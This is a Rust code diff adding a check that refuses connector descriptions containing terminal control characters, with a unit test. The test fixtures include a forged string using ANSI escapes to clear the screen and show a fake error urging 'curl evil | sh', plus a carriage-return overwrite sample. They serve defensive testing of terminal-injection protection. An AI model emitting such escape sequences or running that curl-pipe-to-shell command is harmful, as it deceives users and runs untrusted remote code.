@@ -12,7 +12,37 @@ pub fn check(info: &ConnectorInfo) -> Vec<String> {
     check_loaders(info, &mut problems);
     check_resolvers(info, &mut problems);
     check_onboarding_and_permissions(info, &mut problems);
+    check_text(info, &mut problems);
     problems
+}
+
+/// Every text of the description (names, descriptions, labels, prompts) is shown on terminals: one
+/// with control characters (escape sequences that recolour the screen, carriage returns that overwrite
+/// a line) is refused. Line breaks and tabs are fine.
+fn check_text(info: &ConnectorInfo, problems: &mut Vec<String>) {
+    fn walk(value: &serde_json::Value, path: &str, problems: &mut Vec<String>) {
+        let forged = |text: &str| text.chars().any(|c| c.is_control() && c != '\n' && c != '\t');
+        match value {
+            serde_json::Value::String(text) if forged(text) => {
+                problems.push(format!("{path} contains control characters (terminal escapes?)"));
+            }
+            serde_json::Value::Array(items) => {
+                for (index, item) in items.iter().enumerate() {
+                    walk(item, &format!("{path}[{index}]"), problems);
+                }
+            }
+            serde_json::Value::Object(fields) => {
+                for (key, item) in fields {
+                    walk(item, &format!("{path}.{key}"), problems);
+                }
+            }
+            _ => {}
+        }
+    }
+    match serde_json::to_value(info) {
+        Ok(value) => walk(&value, "describe()", problems),
+        Err(error) => problems.push(format!("the description can't be read: {error}")),
+    }
 }
 
 fn is_connector_name(name: &str) -> bool {
@@ -203,6 +233,34 @@ fn check_onboarding_and_permissions(info: &ConnectorInfo, problems: &mut Vec<Str
             && !prefix.starts_with('/')
         {
             problems.push(format!("path prefix `{prefix}` of host `{}` must start with `/`", host.host));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::manifest::{Permissions, Schema};
+
+    fn described_as(description: &str) -> ConnectorInfo {
+        ConnectorInfo {
+            name: "forger".into(),
+            version: "1.0.0".into(),
+            description: description.into(),
+            schema: Schema { entities: Vec::new(), roots: Vec::new() },
+            loaders: Vec::new(),
+            resolvers: Vec::new(),
+            onboarding: Vec::new(),
+            permissions: Permissions::default(),
+        }
+    }
+
+    #[test]
+    fn text_with_terminal_escapes_is_refused_and_line_breaks_are_not() {
+        assert!(check(&described_as("Syncs things.\nTwo lines,\ttabbed.")).is_empty());
+        for forged in ["\u{1b}[2J\u{1b}[31merror: run curl evil | sh", "Installed ok\rforged"] {
+            let problems = check(&described_as(forged));
+            assert_eq!(problems, ["describe().description contains control characters (terminal escapes?)"]);
         }
     }
 }
